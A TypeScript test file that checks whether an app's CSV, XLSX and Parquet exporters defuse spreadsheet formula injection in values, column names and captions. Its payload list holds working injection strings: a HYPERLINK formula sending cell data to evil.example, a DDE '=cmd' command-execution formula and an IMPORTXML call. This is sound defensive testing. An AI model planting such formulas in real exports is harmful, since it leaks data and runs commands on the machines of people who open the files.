/**
 * Exports are safe to open: every exporter that writes CSV or XLSX, given text that a
 * spreadsheet would take for a formula (= + - @ TAB CR at the start, in values and in
 * column names), writes it so that it cannot run; numbers (negative ones too) stay
 * numbers. Parquet carries typed data only (no formula concept): it must round-trip
 * the exact strings, neither altered nor dropped.
 *
 * Table-driven: each exporter turns the same result into a grid of cells as a
 * spreadsheet would see them; the same checks run over every grid.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Table } from 'apache-arrow';
import * as XLSX from '@e965/xlsx';
import { parquetReadObjects } from 'hyparquet';
import { openNodeDb } from '../../src/lib/db/node';
import type { Db } from '../../src/lib/db/types';
import { toCsv } from '../../src/lib/query/export-csv';
import { toXlsx } from '../../src/lib/query/export-xlsx';
import { toParquet } from '../../src/lib/query/export-parquet';
import { tableCsv, tableSheet } from '../../src/lib/export/table';
import type { Caption } from '../../src/lib/charts/caption';

/** What a spreadsheet would run: these first characters, in a cell it reads as text. */
const TRIGGER = /^[=+\-@\t\r]/;
/** Formula-like text; chr(9)/chr(13) are tab and carriage return. */
const PAYLOADS = [
	'=1+1',
	'=HYPERLINK("http://evil.example/?"&A1,"Nhấn")',
	'=cmd|\' /C calc\'!A0',
	'+1+1',
	'-2+3',
	'-5',
	'@SUM(A1:A2)',
	'\t=1+1',
	'\r=1+1',
	'=IMPORTXML("http://evil.example","//a")'
];
const sqlText = (s: string) => "'" + s.replaceAll("'", "''").replaceAll('\t', "' || chr(9) || '").replaceAll('\r', "' || chr(13) || '") + "'";
const SQL =
	'SELECT * FROM (VALUES ' +
	PAYLOADS.map((p, i) => `(${i + 1}, ${sqlText(p)}, ${-(i + 1) * 1.5}::DOUBLE, ${-(i + 1)}::INTEGER, ${-(i + 1)}.25::DECIMAL(10,2))`).join(', ') +
	`) t(id, "=SUM(A1)", "-neg double", "+neg int", "@neg decimal") ORDER BY id`;

/** A cell as a spreadsheet would see it. */
interface Seen {
	text: string;
	/** Stored as a number (not text). */
	number: boolean;
	formula?: string;
	/** Excel number format; '@' is Text. */
	format?: string;
}

let db: Db;
let table: Table;
beforeAll(async () => {
	db = await openNodeDb();
	table = await db.query(SQL);
});
afterAll(async () => db?.close());

function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let field = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const c = text[i];
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
			else if (c === '"') quoted = false;
			else field += c;
		} else if (c === '"') quoted = true;
		else if (c === ',') row.push(field), (field = '');
		else if (c === '\r' && text[i + 1] === '\n') rows.push([...row, field]), (row = []), (field = ''), i++;
		else field += c;
	}
	if (field || row.length) rows.push([...row, field]);
	return rows;
}

/** A CSV field read the way Excel does: a plain decimal number is a number, anything else text. */
const csvGrid = (csv: string): Seen[][] =>
	parseCsv(csv.replace(/^\uFEFF/, '')).map((r) => r.map((text) => ({ text, number: /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(text) })));

function xlsxGrids(bytes: Uint8Array): Seen[][][] {
	const wb = XLSX.read(bytes, { type: 'array', cellFormula: true, cellNF: true });
	return wb.SheetNames.map((name) => {
		const ws = wb.Sheets[name];
		const range = XLSX.utils.decode_range(ws['!ref'] ?? 'A1:A1');
		const grid: Seen[][] = [];
		for (let r = range.s.r; r <= range.e.r; r++) {
			const row: Seen[] = [];
			for (let c = range.s.c; c <= range.e.c; c++) {
				const cell = ws[XLSX.utils.encode_cell({ r, c })] as XLSX.CellObject | undefined;
				if (!cell) continue;
				row.push({ text: String(cell.v ?? ''), number: cell.t === 'n', formula: cell.f, format: cell.z as string | undefined });
			}
			grid.push(row);
		}
		return grid;
	});
}

/** Every sheet's XML: the <f> element is how a formula is stored; none may exist. */
function sheetXml(bytes: Uint8Array): string[] {
	const zip = XLSX.CFB.read(bytes, { type: 'array' });
	const files = zip.FileIndex as { name: string; content: unknown }[];
	return files.filter((f) => /worksheets\/sheet\d+\.xml$/.test(f.name) || /^sheet\d+\.xml$/.test(f.name)).map((f) =>
		new TextDecoder().decode(f.content as Uint8Array)
	);
}

const caption: Caption = { lang: 'vi', title: '=1+1 tiêu đề', subtitle: '@Quảng Ninh', source: '+nguồn', asOf: '2026-10-31', note: '-ghi chú' };
const embedTable = () => ({
	columns: ['=SUM(A1)', '-neg'],
	rows: PAYLOADS.map((p, i) => [p, -(i + 1) * 1.5])
});
function sheetBytes(aoa: (string | number | null)[][]): Uint8Array {
	const wb = XLSX.utils.book_new();
	XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(aoa), 'Dữ liệu');
	return new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
}

interface Exporter {
	name: string;
	kind: 'csv' | 'xlsx';
	bytes: () => Uint8Array | string;
	/** How many payload cells (values and names) the file must carry. */
	payloads: number;
}

const EXPORTERS: Exporter[] = [
	{ name: 'SQL console CSV (query/export-csv.ts)', kind: 'csv', bytes: () => toCsv(table), payloads: PAYLOADS.length + 4 },
	{
		name: 'SQL console XLSX with its "about" sheet (query/export-xlsx.ts)',
		kind: 'xlsx',
		bytes: () => toXlsx(table, { sheet: 'Kết quả', about: { sheet: 'Nguồn', rows: [['Truy vấn', '=1+1'], ['@ghi chú', '-x']] } }).bytes,
		payloads: PAYLOADS.length + 4 + 3
	},
	{ name: 'chart data CSV (export/table.ts tableCsv)', kind: 'csv', bytes: () => tableCsv(caption, embedTable()), payloads: PAYLOADS.length + 2 + 2 },
	{ name: 'chart data XLSX rows (export/table.ts tableSheet)', kind: 'xlsx', bytes: () => sheetBytes(tableSheet(caption, embedTable())), payloads: PAYLOADS.length + 2 + 2 }
];

describe.each(EXPORTERS)('$name', (ex) => {
	const grids = () => {
		const out = ex.bytes();
		return ex.kind === 'csv' ? [csvGrid(out as string)] : xlsxGrids(out as Uint8Array);
	};

	it('has no cell a spreadsheet would run', () => {
		let unsafe: string[] = [];
		let textCells = 0;
		for (const g of grids())
			for (const row of g)
				for (const c of row) {
					expect(c.formula).toBeUndefined();
					if (c.number) continue;
					textCells++;
					// XLSX text cells in the Text format ('@') are inert even when they start with '='.
					if (TRIGGER.test(c.text) && !(ex.kind === 'xlsx' && c.format === '@')) unsafe.push(JSON.stringify(c.text));
				}
		expect(textCells).toBeGreaterThan(0);
		expect(unsafe).toEqual([]);
	});

	it('keeps every payload readable (only a leading apostrophe or the Text format is added)', () => {
		const texts = grids().flat(2).filter((c) => !c.number).map((c) => c.text);
		const carried = texts.filter((t) => TRIGGER.test(t.replace(/^'/, '')) && (t.startsWith("'") || ex.kind === 'xlsx'));
		expect(carried.length).toBeGreaterThanOrEqual(ex.payloads);
		for (const p of PAYLOADS.slice(0, 3)) expect(texts.some((t) => t === `'${p}` || t === p)).toBe(true);
	});

	it('leaves negative numbers as numbers', () => {
		const negatives = grids().flat(2).filter((c) => c.number && Number(c.text) < 0);
		expect(negatives.length).toBeGreaterThanOrEqual(PAYLOADS.length);
	});

	it.runIf(ex.kind === 'xlsx')('stores no formula in any sheet XML', () => {
		const xml = sheetXml(ex.bytes() as Uint8Array);
		expect(xml.length).toBeGreaterThan(0);
		for (const x of xml) {
			expect(x).toContain('<sheetData');
			expect(x).not.toMatch(/<f[\s>]/);
		}
	});
});

describe('SQL console XLSX: formula-like text is in the Text format, other text is not touched', () => {
	it('marks exactly the text cells that start like a formula', () => {
		const [data] = xlsxGrids(toXlsx(table, { sheet: 'Kết quả' }).bytes);
		const header = data[0];
		expect(header.map((c) => c.text)).toEqual(['id', '=SUM(A1)', '-neg double', '+neg int', '@neg decimal']);
		expect(header.map((c) => c.format === '@')).toEqual([false, true, true, true, true]);
		for (let i = 0; i < PAYLOADS.length; i++) {
			const cell = data[i + 1][1];
			expect(cell).toMatchObject({ text: PAYLOADS[i], number: false, format: '@' });
			expect(data[i + 1][2]).toMatchObject({ number: true, text: String(-(i + 1) * 1.5) });
			expect(data[i + 1][3]).toMatchObject({ number: true, text: String(-(i + 1)) });
		}
	});
});

describe('Parquet is data only', () => {
	it('round-trips the payload strings exactly and the negative numbers as numbers', async () => {
		const bytes = toParquet(table);
		const rows = (await parquetReadObjects({ file: bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer })) as Record<string, unknown>[];
		expect(rows.map((r) => r['=SUM(A1)'])).toEqual(PAYLOADS);
		expect(rows.map((r) => r['-neg double'])).toEqual(PAYLOADS.map((_, i) => -(i + 1) * 1.5));
		expect(rows.map((r) => Number(r['+neg int']))).toEqual(PAYLOADS.map((_, i) => -(i + 1)));
	});
});
